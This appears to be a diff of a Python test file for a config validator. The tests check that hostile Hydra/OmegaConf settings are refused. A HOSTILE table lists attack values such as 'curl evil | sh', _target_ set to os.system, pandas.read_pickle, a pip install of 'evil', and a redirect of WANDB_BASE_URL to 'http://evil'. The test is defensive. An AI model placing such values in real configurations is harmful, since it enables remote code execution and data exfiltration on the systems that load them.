@@ -18,6 +18,8 @@ HOSTILE = {
     "launcher.x": {"_target_": "hydra_plugins.fer_lightning.shared_launcher.SharedLauncher"},
     "sweeper.sampler": {"_target_": "optuna.samplers._base.os.system"},
     "sweeper._args_": [{"_target_": "pandas.read_pickle"}],
+    "sweeper.params": {"+hydra.job.env_set.WANDB_BASE_URL": "http://evil"},
+    "overrides.hydra": ["hydra.launcher.setup=[x]"],
     "launcher.setup": ["curl evil | sh"],
     "launcher.additional_parameters": {"wrap": "sh"},
     "launcher.ray": {"init": {"runtime_env": {"pip": ["evil"]}}},
@@ -29,6 +31,7 @@ HOSTILE = {
     "job_logging.filters": {"x": {"()": "os.system"}},
     "job_logging.formatters.simple.()": "os.system",
     "hydra_logging.handlers.console": {"class": "logging.StreamHandler", ".": {"stream": 1}},
+    "hydra_logging.handlers": {"a.level": {".": {"baseFilename": "/x"}}},
     "hydra_logging.root.level": RESOLVER,
     "job.env_set": {"PYTHONPATH": "evil"},
     "job.name": "${recipe.name}",
@@ -52,7 +55,7 @@ def test_a_file_that_makes_hydra_act_is_refused_before_hydra_does(key):
             config.hydra.job_logging.formatters.simple = {"()": HOSTILE[key]}
         config.recipe = {"name": "../x"}
     with pytest.raises(ConfigError, match=r"^hydra\."):
-        check_hydra(config.hydra)
+        check_hydra(config.hydra, TINY)
 
 
 def test_every_config_that_is_composed_is_checked():
@@ -70,7 +73,7 @@ def test_every_config_that_is_composed_is_checked():
     ],
 )
 def test_what_a_command_needs_of_hydra_is_allowed(overrides):
-    check_hydra(composed(*overrides).hydra)
+    check_hydra(composed(*overrides).hydra, [*TINY, *overrides])
 
 
 @pytest.mark.parametrize("hidden", [RESOLVER, "\\" + RESOLVER, "${recipe.dollar}" + RESOLVER[1:]])
